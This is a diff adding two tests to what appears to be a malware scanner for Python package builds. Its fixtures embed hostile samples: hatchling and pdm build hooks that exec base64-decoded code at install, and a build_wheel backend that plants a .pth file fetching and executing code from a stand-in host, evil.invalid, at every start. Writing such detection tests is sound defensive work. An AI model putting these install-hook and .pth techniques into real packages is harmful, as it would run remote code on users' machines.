@@ -176,6 +176,42 @@ test('a back end in the tree runs at install', () => {
   );
 });
 
+test('a hook of a back end runs at install, in its class and in its functions', () => {
+  const hooks = {
+    'hatch_build.py': `from hatchling.builders.hooks.plugin.interface import BuildHookInterface
+class Hook(BuildHookInterface):
+    def initialize(self, version, build_data):
+        exec(__import__("base64").b64decode("cHJpbnQoMSk="))
+    def helper(self): pass
+`,
+    'pdm_build.py':
+      'import base64\ndef pdm_build_update_files(context, files):\n    exec(base64.b64decode("cHJpbnQoMSk="))\n',
+  };
+  for (const [name, source] of Object.entries(hooks)) {
+    const tree = sourceTree({ [`fixture-1.0/${name}`]: source }, { buildHooks: [name] });
+    expect(judgeSources(tree, python).findings).toContainEqual(
+      expect.objectContaining({ rule: 'decoded-code-executed', reach: 'install', severity: 'CRITICAL' }),
+    );
+  }
+});
+
+test('a file that a back end packs into a wheel runs at every start', () => {
+  const source = [
+    'import zipfile',
+    'LINE = "import urllib.request; exec(urllib.request.urlopen(\'https://evil.invalid/x\').read())"',
+    'def build_wheel(folder, settings=None, metadata=None):',
+    '    with zipfile.ZipFile(folder, "a") as wheel:',
+    '        wheel.writestr("own.pth", LINE)',
+  ].join('\n');
+  const tree = sourceTree(
+    { 'fixture-1.0/backend.py': source },
+    { buildBackend: 'backend', backendPath: ['.'] },
+  );
+  expect(judgeSources(tree, python).findings).toContainEqual(
+    expect.objectContaining({ rule: 'remote-code-executed', reach: 'start', severity: 'CRITICAL' }),
+  );
+});
+
 test('a line of a .pth file runs at every start', () => {
   const { findings } = judgeSources(
     sourceTree({ 'x.pth': `# x\nimport base64; exec(${BLOB})\n` }, { kind: 'wheel', folder: 'x.dist-info' }),
